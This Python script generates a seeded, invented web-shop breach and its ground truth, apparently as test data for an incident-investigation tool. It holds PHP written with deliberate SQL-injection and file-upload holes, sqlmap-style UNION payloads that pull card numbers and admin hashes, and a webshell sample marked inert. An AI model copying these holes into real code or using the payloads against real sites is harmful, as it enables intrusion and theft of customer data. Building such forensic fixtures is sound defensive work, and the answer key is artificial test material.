#!/usr/bin/env python3
"""Writes the bundled sample incident (seeded: the same bytes every time).

The story (times JST): shop.example.jp, a small Japanese web shop on PHP.
From 2024-03-08 to 2024-03-10 customers browse and buy as usual. On the night
of 2024-03-10 an attacker scans the site, finds an SQL injection in the
product page and pulls customer rows and the admin password through it; from
a second address the attacker logs in to the admin panel, uploads an inert
"webshell" through the unchecked upload form, reads the configuration, dumps
the customer database into the webroot, downloads it and defaces the home
page. An unrelated SSH brute force fails. The files are ours; every address
is from documentation ranges, every person and card number is invented.

Outputs (committed, small):
  incident/var/log/...          the server's logs, as a hosting provider sends them
  incident/home/deploy/...      the administrator's shell history
  incident/webroot.tar.gz       /var/www/html as found, with the files' times
  shop-release/                 the shop's code as released (the clean baseline)
  EXPECTED.md                   the ground truth
Run: python3 samples/generate_incident.py
"""
import gzip
import io
import os
import random
import shutil
import tarfile
from datetime import datetime, timedelta, timezone

JST = timezone(timedelta(hours=9))
rng = random.Random(20240310)

RECON_IP = "203.0.113.45"     # scanner and SQL injection
SHELL_IP = "203.0.113.77"     # admin login, upload, webshell, download, defacement
SSH_IP = "198.51.100.23"      # SSH brute force (fails)
OWNER_IP = "192.0.2.10"       # the shop owner, working on the admin panel
DOCROOT = "var/www/html"

UA_BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36",
]
UA_BOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
UA_NIKTO = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)"
UA_SQLMAP = "sqlmap/1.8#stable (https://sqlmap.org)"
UA_ATTACKER = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"

CLIENTS = ["192.0.2.%d" % i for i in range(20, 90)] + ["2001:db8::%x" % i for i in range(1, 16)]
SEARCHES = ["%E6%8A%B9%E8%8C%B6", "%E3%81%BB%E3%81%86%E3%81%98%E8%8C%B6", "select+gift+box",
            "union+jack+mug", "O%27Neill+tea+set", "%E7%8E%89%E9%9C%B2", "script+font+notebook"]
RELEASE = datetime(2024, 2, 20, 10, 0, 0, tzinfo=JST)
DAY0 = datetime(2024, 3, 8, 0, 0, tzinfo=JST)
CUSTOMERS = 250          # rows of the customers table (all in the dump)
SQLI_ROWS = 40           # rows read one by one through the SQL injection

# ---------------------------------------------------------------- people


def luhn_complete(prefix, length):
    digits = [int(c) for c in prefix]
    while len(digits) < length - 1:
        digits.append(rng.randint(0, 9))
    total = 0
    for i, d in enumerate(reversed(digits)):
        if i % 2 == 0:
            d *= 2
            if d > 9:
                d -= 9
        total += d
    return "".join(map(str, digits)) + str((10 - total % 10) % 10)


FAMILY = ["佐藤", "鈴木", "高橋", "田中", "伊藤", "渡辺", "山本", "中村", "小林", "加藤", "吉田", "山田"]
GIVEN = ["太郎", "花子", "健", "美咲", "翔太", "陽菜", "大輔", "結衣", "誠", "さくら"]
PLACES = ["東京都千代田区", "大阪府大阪市北区", "京都府京都市中京区", "北海道札幌市中央区", "福岡県福岡市博多区",
          "愛知県名古屋市中区", "神奈川県横浜市西区"]


def customers():
    rows = []
    for i in range(1, CUSTOMERS + 1):
        rows.append({
            "id": i,
            "name": rng.choice(FAMILY) + " " + rng.choice(GIVEN),
            "email": "customer%03d@example.com" % i,
            "phone": "090-%04d-%04d" % (rng.randint(1000, 9999), rng.randint(0, 9999)),
            "zip": "%03d-%04d" % (rng.randint(100, 999), rng.randint(0, 9999)),
            "address": rng.choice(PLACES) + "%d-%d-%d" % (rng.randint(1, 9), rng.randint(1, 30), rng.randint(1, 20)),
            "card": luhn_complete(rng.choice(["4111", "5500", "3530"]), 16),
            "birth": "%d-%02d-%02d" % (rng.randint(1950, 2004), rng.randint(1, 12), rng.randint(1, 28)),
        })
    return rows


def sql_dump(rows):
    out = ["-- MySQL dump 10.13  Distrib 8.0.36, for Linux (x86_64)", "-- Host: localhost    Database: shop",
           "", "CREATE TABLE `customers` (", "  `id` int NOT NULL AUTO_INCREMENT,", "  `name` varchar(64),",
           "  `email` varchar(128),", "  `phone` varchar(20),", "  `zip` varchar(8),", "  `address` varchar(255),",
           "  `card_number` varchar(19),", "  `birth_date` date,", "  PRIMARY KEY (`id`)",
           ") ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;", "", "LOCK TABLES `customers` WRITE;"]
    for start in range(0, len(rows), 50):
        values = ",".join("(%d,'%s','%s','%s','%s','%s','%s','%s')" % (
            r["id"], r["name"], r["email"], r["phone"], r["zip"], r["address"], r["card"], r["birth"])
            for r in rows[start:start + 50])
        out.append("INSERT INTO `customers` VALUES %s;" % values)
    out += ["UNLOCK TABLES;", "", "CREATE TABLE `admin_users` (`id` int, `login` varchar(32), `password` varchar(64));",
            "INSERT INTO `admin_users` VALUES (1,'owner','$2y$10$3mN0tARealHashJustASampleValue000000000000000000000'),"
            "(2,'staff','$2y$10$AnotherInventedHashForTheSample1111111111111111111111');", "-- Dump completed", ""]
    return "\n".join(out)

# ---------------------------------------------------------------- webroot

SITE_CSS = "body{font-family:sans-serif;margin:0}header{background:#2d5016;color:#fff;padding:1em}\n"
APP_JS = "document.addEventListener('DOMContentLoaded',function(){var c=document.querySelector('#cart-count');" \
         "if(c){c.textContent=localStorage.getItem('cart')||'0';}});\n"
HEADER = "<?php require __DIR__ . '/lib/db.php'; ?>\n"

CODE = {
    "index.php": HEADER + "<!doctype html>\n<html lang=\"ja\"><head><meta charset=\"utf-8\">"
    "<title>抹茶と和菓子の店</title><link rel=\"stylesheet\" href=\"/static/css/site.css\"></head>\n"
    "<body><header><img src=\"/static/img/logo.png\" alt=\"\"> 抹茶と和菓子の店</header>\n"
    "<?php foreach (featured_products() as $p): ?>\n"
    "<a href=\"/products/view.php?id=<?= (int)$p['id'] ?>\"><?= htmlspecialchars($p['name']) ?></a>\n"
    "<?php endforeach; ?>\n<script src=\"/static/js/app.js\"></script></body></html>\n",
    "products/view.php": "<?php\nrequire __DIR__ . '/../lib/db.php';\n"
    "// The bug: the id goes into the SQL text unquoted and unchecked.\n"
    "$id = $_GET['id'];\n$res = db()->query(\"SELECT id, name, price, note FROM products WHERE id = $id\");\n"
    "$p = mysqli_fetch_assoc($res);\n?>\n<h1><?= htmlspecialchars($p['name'] ?? '') ?></h1>\n"
    "<p><?= htmlspecialchars($p['note'] ?? '') ?></p>\n",
    "search.php": "<?php\nrequire __DIR__ . '/lib/db.php';\n$q = $_GET['q'] ?? '';\n"
    "$st = db()->prepare('SELECT id, name FROM products WHERE name LIKE ?');\n$like = '%' . $q . '%';\n"
    "$st->bind_param('s', $like);\n$st->execute();\nforeach ($st->get_result() as $row) {\n"
    "  echo '<li>' . htmlspecialchars($row['name']) . '</li>';\n}\n",
    "cart.php": "<?php\nsession_start();\n$_SESSION['cart'] = $_SESSION['cart'] ?? [];\n"
    "echo count($_SESSION['cart']);\n",
    "checkout.php": "<?php\nsession_start();\nrequire __DIR__ . '/lib/db.php';\n"
    "if ($_SERVER['REQUEST_METHOD'] === 'POST') {\n  $st = db()->prepare('INSERT INTO orders (customer_id, total) VALUES (?, ?)');\n"
    "  $st->bind_param('id', $_SESSION['customer'], $_POST['total']);\n  $st->execute();\n}\n"
    "?>\n<form method=\"post\"><input name=\"total\" type=\"hidden\"><button>注文する</button></form>\n",
    "config.php": "<?php\n// Database settings (sample values).\nreturn ['host' => 'localhost', 'user' => 'shop', "
    "'password' => 'sample-not-a-real-password', 'name' => 'shop'];\n",
    "lib/db.php": "<?php\nfunction db() {\n  static $db;\n  if (!$db) {\n    $c = require __DIR__ . '/../config.php';\n"
    "    $db = new mysqli($c['host'], $c['user'], $c['password'], $c['name']);\n  }\n  return $db;\n}\n"
    "function featured_products() {\n  return db()->query('SELECT id, name FROM products LIMIT 8')->fetch_all(MYSQLI_ASSOC);\n}\n",
    "admin/index.php": "<?php\nsession_start();\nif (empty($_SESSION['admin'])) { header('Location: /admin/login.php'); exit; }\n"
    "?>\n<h1>管理画面</h1><form action=\"upload.php\" method=\"post\" enctype=\"multipart/form-data\">"
    "<input type=\"file\" name=\"image\"><button>商品画像をアップロード</button></form>\n",
    "admin/login.php": "<?php\nsession_start();\nrequire __DIR__ . '/../lib/db.php';\n"
    "if ($_SERVER['REQUEST_METHOD'] === 'POST') {\n"
    "  $st = db()->prepare('SELECT password FROM admin_users WHERE login = ?');\n"
    "  $st->bind_param('s', $_POST['login']);\n  $st->execute();\n  $row = $st->get_result()->fetch_assoc();\n"
    "  if ($row && password_verify($_POST['password'], $row['password'])) {\n"
    "    $_SESSION['admin'] = $_POST['login'];\n    header('Location: /admin/index.php');\n    exit;\n  }\n}\n"
    "?>\n<form method=\"post\"><input name=\"login\"><input name=\"password\" type=\"password\"><button>ログイン</button></form>\n",
    "admin/upload.php": "<?php\nsession_start();\nif (empty($_SESSION['admin'])) { http_response_code(403); exit; }\n"
    "// The bug: any file name and type is accepted and kept under the webroot.\n"
    "$name = basename($_FILES['image']['name']);\n"
    "move_uploaded_file($_FILES['image']['tmp_name'], __DIR__ . '/../uploads/img/' . $name);\n"
    "echo 'uploaded: ' . htmlspecialchars($name);\n",
    ".htaccess": "Options -Indexes\n<FilesMatch \"\\.(sql|bak|log)$\">\n  Require all denied\n</FilesMatch>\n",
    "static/css/site.css": SITE_CSS,
    "static/js/app.js": APP_JS,
}

# Inert: execution ends at the first statement; what follows only has the
# shape of the real thing, for the scanners to find.
WEBSHELL = ("<?php exit('inert sample'); ?>\n<?php\n/* image cache helper */\n"
            "if (isset($_REQUEST['c'])) {\n  echo '<pre>';\n  system($_REQUEST['c']);\n  echo '</pre>';\n}\n"
            "if (isset($_FILES['f'])) {\n  move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);\n}\n")
DEFACED = ("<!doctype html>\n<html><head><meta charset=\"utf-8\"><title>HACKED</title></head>\n"
           "<body style=\"background:#000;color:#0f0;text-align:center\">\n"
           "<h1>Hacked by Gr33nTea Crew</h1>\n<p>your security is a joke. we have your customers.</p>\n"
           "</body></html>\n")
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c6360000002000100e221bc330000000049454e44ae426082")


def jpeg(seed):
    body = bytes(random.Random(seed).randrange(256) for _ in range(600))
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + body + b"\xff\xd9"

# ---------------------------------------------------------------- logs


def clf(t):
    return t.strftime("%d/%b/%Y:%H:%M:%S %z")


def access_line(t, ip, method, target, status, size, ref="-", ua=None):
    ua = ua or rng.choice(UA_BROWSERS)
    return '%s - - [%s] "%s %s HTTP/1.1" %d %s "%s" "%s"\n' % (
        ip, clf(t), method, target, status, size if size else "-", ref, ua)


def page_size(path):
    # Each page has its usual size, give or take a little.
    base = {"/": 18200, "/cart.php": 2100, "/checkout.php": 5400, "/static/css/site.css": 1480,
            "/static/js/app.js": 2920, "/static/img/logo.png": 8120}.get(path.split("?")[0], 12400)
    return base + rng.randint(-120, 120)


def background(start, hours, defaced_from=None):
    out = []
    t = start
    end = start + timedelta(hours=hours)
    while t < end:
        hour = t.hour
        rate = 70 if 9 <= hour <= 23 else 15   # requests per hour, busier by day
        t += timedelta(seconds=rng.expovariate(rate / 3600))
        ip = rng.choice(CLIENTS)
        ua = UA_BOT if ip.endswith(".88") else rng.choice(UA_BROWSERS)
        r = rng.random()
        if r < 0.3:
            path = "/"
        elif r < 0.55:
            path = "/products/view.php?id=%d" % rng.randint(100, 160)
        elif r < 0.65:
            path = "/search.php?q=" + rng.choice(SEARCHES)
        elif r < 0.8:
            path = rng.choice(["/static/css/site.css", "/static/js/app.js", "/static/img/logo.png"])
        elif r < 0.88:
            path = "/uploads/img/p%d.jpg" % rng.randint(100, 111)
        elif r < 0.95:
            path = "/cart.php"
        else:
            out.append((t, access_line(t, ip, "POST", "/checkout.php", 302, 0, "https://shop.example.jp/cart.php", ua)))
            continue
        size = page_size(path)
        if path == "/" and defaced_from and t >= defaced_from:
            size = len(DEFACED)
        status = 200 if rng.random() > 0.02 else 404
        out.append((t, access_line(t, ip, "GET", path, status, size if status == 200 else 196,
                                   "https://shop.example.jp/", ua)))
    return out


def owner_work(day):
    # The shop owner adds a product photo each day: the legitimate upload.
    t = day + timedelta(hours=10, minutes=rng.randint(0, 50))
    out = [(t, access_line(t, OWNER_IP, "GET", "/admin/login.php", 200, 1320, "-", UA_BROWSERS[2]))]
    t += timedelta(seconds=20)
    out.append((t, access_line(t, OWNER_IP, "POST", "/admin/login.php", 302, 0,
                               "https://shop.example.jp/admin/login.php", UA_BROWSERS[2])))
    t += timedelta(seconds=45)
    out.append((t, access_line(t, OWNER_IP, "POST", "/admin/upload.php", 200, 64,
                               "https://shop.example.jp/admin/index.php", UA_BROWSERS[2])))
    return out


class Attack:
    """The attacker's requests, and the times the ground truth needs."""

    def __init__(self, start):
        self.lines = []
        self.times = {}
        t = start
        for p in ["/.env", "/.git/config", "/wp-login.php", "/phpinfo.php", "/backup.sql", "/db.sql.gz",
                  "/config.php~", "/.DS_Store", "/server-status", "/phpmyadmin/", "/admin/", "/cgi-bin/test.cgi",
                  "/wp-config.php.bak", "/.htpasswd", "/admin/login.php"]:
            t += timedelta(seconds=rng.randint(1, 3))
            self.times.setdefault("recon_start", t)
            status = 200 if p.startswith("/admin/") else 403 if p in ("/.htpasswd", "/server-status") else 404
            self.add(t, RECON_IP, "GET", p, status, 1320 if status == 200 else 196, UA_NIKTO)
        t += timedelta(minutes=19)
        self.times["sqli_start"] = t
        probes = ["105%20AND%201%3D1", "105%20AND%201%3D2", "105%27", "105%20ORDER%20BY%204--%20-",
                  "105%20ORDER%20BY%205--%20-",
                  "105%20UNION%20ALL%20SELECT%20NULL%2CCONCAT(0x716a7a7171%2Cdatabase()%2C0x71706b7071)%2CNULL%2CNULL--%20-",
                  "105%20UNION%20ALL%20SELECT%20NULL%2CGROUP_CONCAT(table_name)%2CNULL%2CNULL%20FROM%20"
                  "information_schema.tables%20WHERE%20table_schema%3Ddatabase()--%20-",
                  "105%20UNION%20ALL%20SELECT%20NULL%2CGROUP_CONCAT(column_name)%2CNULL%2CNULL%20FROM%20"
                  "information_schema.columns%20WHERE%20table_name%3D0x637573746f6d657273--%20-"]
        for q in probes:
            t += timedelta(seconds=rng.randint(2, 6))
            status = 500 if q.endswith("%27") or q.endswith("%205--%20-") else 200
            self.add(t, RECON_IP, "GET", "/products/view.php?id=" + q, status,
                     612 if status == 500 else 12400 + rng.randint(0, 400), UA_SQLMAP)
        for n in range(SQLI_ROWS):
            t += timedelta(seconds=rng.randint(2, 5))
            q = ("105%%20UNION%%20ALL%%20SELECT%%20NULL%%2CCONCAT(name%%2C0x3a%%2Cemail%%2C0x3a%%2Ccard_number)"
                 "%%2CNULL%%2CNULL%%20FROM%%20customers%%20LIMIT%%20%d%%2C1--%%20-" % n)
            self.add(t, RECON_IP, "GET", "/products/view.php?id=" + q, 200, 12600 + rng.randint(0, 90), UA_SQLMAP)
        for n in range(2):
            t += timedelta(seconds=3)
            q = ("105%%20UNION%%20ALL%%20SELECT%%20NULL%%2CCONCAT(login%%2C0x3a%%2Cpassword)%%2CNULL%%2CNULL"
                 "%%20FROM%%20admin_users%%20LIMIT%%20%d%%2C1--%%20-" % n)
            self.add(t, RECON_IP, "GET", "/products/view.php?id=" + q, 200, 12580 + rng.randint(0, 40), UA_SQLMAP)
        self.times["sqli_end"] = t
        # The second address: the admin panel with the stolen password.
        t += timedelta(minutes=14)
        self.add(t, SHELL_IP, "GET", "/admin/login.php", 200, 1320, UA_ATTACKER)
        t += timedelta(seconds=9)
        self.times["admin_login"] = t
        self.add(t, SHELL_IP, "POST", "/admin/login.php", 302, 0, UA_ATTACKER, "https://shop.example.jp/admin/login.php")
        t += timedelta(seconds=4)
        self.add(t, SHELL_IP, "GET", "/admin/index.php", 200, 2210, UA_ATTACKER)
        t += timedelta(seconds=31)
        self.times["upload"] = t
        self.add(t, SHELL_IP, "POST", "/admin/upload.php", 200, 63, UA_ATTACKER, "https://shop.example.jp/admin/index.php")
        self.times["first_shell_use"] = None
        for cmd, size in [("id", 54), ("uname%20-a", 121), ("cat%20..%2F..%2Fconfig.php", 190),
                          ("ls%20-la%20..%2F..%2F", 1630), ("mysqldump%20-ushop%20-p%27sample-not-a-real-password%27"
                                                           "%20shop%20%3E%20.b.sql", 11), ("ls%20-la", 460)]:
            t += timedelta(seconds=rng.randint(15, 70))
            if self.times["first_shell_use"] is None:
                self.times["first_shell_use"] = t
            if cmd.startswith("mysqldump"):
                self.times["dump_created"] = t
            self.add(t, SHELL_IP, "POST", "/uploads/img/cache.php?c=" + cmd, 200, size, UA_ATTACKER)
        t += timedelta(minutes=2)
        self.times["download"] = t
        self.add(t, SHELL_IP, "GET", "/uploads/img/.b.sql", 200, None, UA_ATTACKER)  # size set later
        t += timedelta(minutes=6)
        self.times["deface"] = t
        self.add(t, SHELL_IP, "POST", "/uploads/img/cache.php?c=cp%20%2Ftmp%2F.i%20..%2F..%2Findex.php", 200, 0,
                 UA_ATTACKER)
        t += timedelta(seconds=12)
        self.add(t, SHELL_IP, "GET", "/", 200, len(DEFACED), UA_ATTACKER)
        self.times["last_activity"] = t

    def add(self, t, ip, method, target, status, size, ua, ref="-"):
        self.lines.append([t, ip, method, target, status, size, ref, ua])

    def rendered(self, dump_size):
        return [(t, access_line(t, ip, m, target, st, dump_size if size is None else size, ref, ua))
                for t, ip, m, target, st, size, ref, ua in self.lines]


def ts(t):
    # rsyslog's high-precision format (RFC 3339): a year and an offset on
    # every line, so the sample reads the same whatever the files' mtimes.
    return t.astimezone(JST).isoformat(timespec="microseconds")


def auth_log():
    lines = []
    pid = 3000
    for d in range(3):  # the administrator's ordinary logins
        t = DAY0 + timedelta(days=d, hours=9, minutes=rng.randint(0, 40))
        pid += 7
        lines.append((t, "%s web01 sshd[%d]: Accepted publickey for deploy from %s port %d ssh2: ED25519 "
                         "SHA256:q2V0c2FtcGxla2V5Zm9ydGhlc2hvZG9zYW1wbGU\n" % (ts(t), pid, OWNER_IP, 50000 + d)))
        lines.append((t, "%s web01 sshd[%d]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)\n"
                      % (ts(t), pid)))
        t += timedelta(minutes=rng.randint(5, 20))
        lines.append((t, "%s web01 sshd[%d]: pam_unix(sshd:session): session closed for user deploy\n" % (ts(t), pid)))
    t = datetime(2024, 3, 10, 3, 2, 0, tzinfo=JST)
    first = None
    users = ["root", "admin", "test", "oracle", "ubuntu", "deploy"]
    for i in range(80):
        t += timedelta(seconds=rng.randint(1, 4))
        first = first or t
        pid += 1
        u = users[i % len(users)]
        if u in ("test", "oracle", "ubuntu"):
            lines.append((t, "%s web01 sshd[%d]: Invalid user %s from %s port %d\n" % (ts(t), pid, u, SSH_IP, 40000 + i)))
            lines.append((t, "%s web01 sshd[%d]: Failed password for invalid user %s from %s port %d ssh2\n"
                          % (ts(t), pid, u, SSH_IP, 40000 + i)))
        else:
            lines.append((t, "%s web01 sshd[%d]: Failed password for %s from %s port %d ssh2\n"
                          % (ts(t), pid, u, SSH_IP, 40000 + i)))
    lines.append((t, "%s web01 sshd[%d]: Disconnecting authenticating user root %s port 40079: Too many "
                     "authentication failures [preauth]\n" % (ts(t), pid, SSH_IP)))
    lines.sort(key=lambda x: x[0])
    return "".join(l for _, l in lines), first, t


def mail_log():
    lines = []
    for d in range(3):
        for k in range(rng.randint(3, 6)):  # order confirmations
            t = DAY0 + timedelta(days=d, hours=rng.randint(10, 22), minutes=rng.randint(0, 59))
            qid = "4F%03X%05X" % (d * 10 + k, rng.randint(0, 0xFFFFF))
            n = rng.randint(1, CUSTOMERS)
            lines.append((t, "%s web01 postfix/pickup[3101]: %s: uid=33 from=<www-data>\n" % (ts(t), qid)))
            lines.append((t, "%s web01 postfix/qmgr[1201]: %s: from=<shop@shop.example.jp>, size=3412, nrcpt=1 "
                             "(queue active)\n" % (ts(t), qid)))
            lines.append((t, "%s web01 postfix/smtp[3130]: %s: to=<customer%03d@example.com>, "
                             "relay=mx.example.com[192.0.2.200]:25, delay=1.1, delays=0.1/0/0.5/0.5, dsn=2.0.0, "
                             "status=sent (250 ok)\n" % (ts(t), qid, n)))
    lines.sort(key=lambda x: x[0])
    return "".join(l for _, l in lines)


def error_log(attack):
    t = attack.times["sqli_start"] + timedelta(seconds=14)
    return ("[%s] [php:warn] [pid 2211] [client %s:51122] PHP Warning:  mysqli_fetch_assoc(): Argument #1 "
            "($result) must be of type mysqli_result, bool given in /var/www/html/products/view.php on line 6\n"
            % (t.strftime("%a %b %d %H:%M:%S.120044 %Y"), RECON_IP))

# ---------------------------------------------------------------- writing


def write(path, data, mtime=None):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())
    if mtime is not None:
        os.utime(path, (mtime.timestamp(), mtime.timestamp()))


def webroot_tar(path, files):
    """files: {relative path: (bytes, mtime, mode)}; deterministic tar.gz."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        dirs = sorted({os.path.dirname(p) for p in files} | {DOCROOT})
        all_dirs = set()
        for d in dirs:
            parts = d.split("/")
            for i in range(1, len(parts) + 1):
                all_dirs.add("/".join(parts[:i]))
        for d in sorted(all_dirs):
            info = tarfile.TarInfo(d)
            info.type = tarfile.DIRTYPE
            info.mode = 0o755
            info.mtime = int(RELEASE.timestamp())
            info.uid = info.gid = 33 if d.startswith(DOCROOT) else 0
            info.uname = info.gname = "www-data" if d.startswith(DOCROOT) else "root"
            tar.addfile(info)
        for p in sorted(files):
            data, mtime, mode = files[p]
            info = tarfile.TarInfo(p)
            info.size = len(data)
            info.mode = mode
            info.mtime = int(mtime.timestamp())
            info.uid = info.gid = 33
            info.uname = info.gname = "www-data"
            tar.addfile(info, io.BytesIO(data))
    with open(path, "wb") as f:
        with gzip.GzipFile(fileobj=f, mode="wb", mtime=0, filename="") as gz:
            gz.write(buf.getvalue())


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    incident = os.path.join(here, "incident")
    release = os.path.join(here, "shop-release")
    for d in (incident, release):
        shutil.rmtree(d, ignore_errors=True)

    rows = customers()
    dump = sql_dump(rows).encode()
    attack = Attack(datetime(2024, 3, 10, 1, 12, 0, tzinfo=JST))
    deface = attack.times["deface"]

    # Logs: three days of ordinary traffic, the attack on the night of the third.
    days = []
    for d in range(3):
        start = DAY0 + timedelta(days=d)
        lines = background(start, 24, defaced_from=deface) + owner_work(start)
        if d == 2:
            lines += attack.rendered(len(dump))
        lines.sort(key=lambda x: x[0])
        days.append("".join(l for _, l in lines))
    apache = os.path.join(incident, "var", "log", "apache2")
    os.makedirs(apache)
    with gzip.GzipFile(os.path.join(apache, "access.log.2.gz"), "wb", mtime=0) as f:
        f.write(days[0].encode())
    write(os.path.join(apache, "access.log.1"), days[1])
    write(os.path.join(apache, "access.log"), days[2])
    write(os.path.join(apache, "error.log"), error_log(attack))
    auth, ssh_first, ssh_last = auth_log()
    write(os.path.join(incident, "var", "log", "auth.log"), auth)
    write(os.path.join(incident, "var", "log", "mail.log"), mail_log())
    history = ["#1709859600", "cd /var/www/html", "#1709859610", "git pull", "#1709859700",
               "sudo systemctl reload apache2", "#1709946000", "tail -n 50 /var/log/apache2/error.log",
               "#1710032400", "df -h", "#1710032460", "sudo apt-get upgrade -y"]
    write(os.path.join(incident, "home", "deploy", ".bash_history"), "\n".join(history) + "\n")

    # The webroot: the release, the owner's product photos, and what the
    # attacker left: the webshell, the dump and the defaced home page.
    found = {}
    for rel, text in CODE.items():
        found[DOCROOT + "/" + rel] = (text.encode(), RELEASE, 0o644)
        write(os.path.join(release, rel), text)
    found[DOCROOT + "/static/img/logo.png"] = (PNG, RELEASE, 0o644)
    write(os.path.join(release, "static", "img", "logo.png"), PNG)
    for i in range(100, 112):
        found[DOCROOT + "/uploads/img/p%d.jpg" % i] = (jpeg(i), RELEASE + timedelta(days=i - 100, hours=1), 0o644)
    found[DOCROOT + "/uploads/img/cache.php"] = (WEBSHELL.encode(), attack.times["upload"], 0o644)
    found[DOCROOT + "/uploads/img/.b.sql"] = (dump, attack.times["dump_created"], 0o644)
    found[DOCROOT + "/index.php"] = (DEFACED.encode(), deface, 0o644)
    webroot_tar(os.path.join(incident, "webroot.tar.gz"), found)

    stamp = datetime(2024, 3, 11, 0, 0, tzinfo=JST)
    for root, _, files in os.walk(os.path.join(incident, "var")):
        for f in files:
            os.utime(os.path.join(root, f), (stamp.timestamp(), stamp.timestamp()))

    write(os.path.join(here, "EXPECTED.md"), expected(attack, len(dump), ssh_first, ssh_last))


def expected(attack, dump_size, ssh_first, ssh_last):
    tt = attack.times

    def both(t):
        return "%s (%s UTC)" % (t.strftime("%Y-%m-%d %H:%M:%S JST"),
                                t.astimezone(timezone.utc).strftime("%Y-%m-%d %H:%M:%S"))
    return f"""# The sample incident: ground truth

Written by `samples/generate_incident.py` (seeded); the end-to-end test of
`shodo investigate` checks its `findings.json` against these facts.
日本語: 下記は同梱サンプル事案の正解データです（攻撃者 IP、時刻、Web シェル、変更ファイル）。

## Evidence
- `incident/var/log/apache2/access.log.2.gz`, `access.log.1`, `access.log`: 2024-03-08 to 2024-03-10 (JST), combined format
- `incident/var/log/apache2/error.log`, `incident/var/log/auth.log`, `incident/var/log/mail.log` (syslog, RFC 3339 times)
- `incident/home/deploy/.bash_history`: the administrator's ordinary commands
- `incident/webroot.tar.gz`: `/var/www/html` as found, with the files' modification times
- `shop-release/`: the shop's code as released on 2024-02-20 (the clean baseline)

## Verdict
compromised: the webshell was uploaded and used, customer data was read and downloaded, the home page was defaced.

## Attackers
| IP | role | first seen | last seen |
|---|---|---|---|
| {RECON_IP} | scanner (Nikto), SQL injection (sqlmap) on `/products/view.php?id=` | {both(tt['recon_start'])} | {both(tt['sqli_end'])} |
| {SHELL_IP} | admin login with the stolen password, upload, webshell, download, defacement | {both(tt['admin_login'] - timedelta(seconds=9))} | {both(tt['last_activity'])} |
| {SSH_IP} | SSH brute force, 80 attempts, all failed | {both(ssh_first)} | {both(ssh_last)} |

Not attackers: {OWNER_IP} (the shop owner: admin logins and product-photo uploads every morning),
192.0.2.88 (a search-engine crawler), every other client (customers).

## Incident window
- first malicious event: {both(tt['recon_start'])}, Nikto probe from {RECON_IP}
- compromise: {both(tt['upload'])}, `POST /admin/upload.php` from {SHELL_IP} (the webshell's upload)
- last attacker activity: {both(tt['last_activity'])}, `GET /` from {SHELL_IP} (checking the defacement)

## Webshell
- path: `/var/www/html/uploads/img/cache.php`, URL `/uploads/img/cache.php` (inert sample)
- uploaded by {SHELL_IP} at {both(tt['upload'])}; first used {both(tt['first_shell_use'])}
- used by: {SHELL_IP} only

## Data exposure
- SQL injection: {SQLI_ROWS} rows of `customers` (name, email, card_number; `LIMIT 0,1` to `LIMIT {SQLI_ROWS - 1},1`) and 2 rows of `admin_users`, by {RECON_IP}
- dump: `/var/www/html/uploads/img/.b.sql` ({dump_size} bytes, {CUSTOMERS} customers: name, email, phone, postal code, address, card number, birth date) created through the webshell at {both(tt['dump_created'])} and downloaded by {SHELL_IP} at {both(tt['download'])} (status 200, {dump_size} bytes)
- persons affected: {CUSTOMERS} (every row of the dump; the {SQLI_ROWS} read by SQL injection are among them); card numbers: {CUSTOMERS}

## Changed files (against `shop-release/`)
- modified: `/var/www/html/index.php` (defaced at {both(tt['deface'])})
- added: `/var/www/html/uploads/img/cache.php` (webshell), `/var/www/html/uploads/img/.b.sql` (dump)
- added, benign: `/var/www/html/uploads/img/p100.jpg` to `p111.jpg` (the owner's product photos)
"""


if __name__ == "__main__":
    main()
